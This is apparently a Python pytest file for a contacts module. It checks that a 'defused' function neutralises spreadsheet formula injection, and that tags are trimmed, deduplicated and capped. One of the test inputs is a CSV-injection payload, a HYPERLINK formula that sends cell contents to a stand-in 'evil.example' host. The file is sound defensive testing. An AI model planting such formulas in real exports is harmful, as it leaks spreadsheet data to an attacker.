from __future__ import annotations

import pytest
from hypothesis import given, strategies as st

from coordinator.contacts.rules import LONGEST_TAG, MOST_TAGS, TooManyTagsError, clean_tags, defused


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+49 30 1234", "-2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "'=1", '"=1', "\u00a0=1",
        "\ufeff=1", "＝1", "＠SUM", '=HYPERLINK("https://evil.example?"&A1)',
    ],
)  # fmt: skip
def test_a_formula_becomes_text(text: str) -> None:
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Ada", "ada@example.org", "1-2", "a=b", "Ада", "(=1)"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


@given(st.text())
def test_nothing_that_leaves_starts_a_formula(text: str) -> None:
    assert not defused(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_tags_are_trimmed_sorted_and_not_doubled() -> None:
    assert clean_tags([" Press ", "press", "", "drives  a van", "x" * 99]) == [
        "drives a van",
        "Press",
        "x" * LONGEST_TAG,
    ]


def test_too_many_tags_are_refused() -> None:
    with pytest.raises(TooManyTagsError):
        clean_tags(str(number) for number in range(MOST_TAGS + 1))
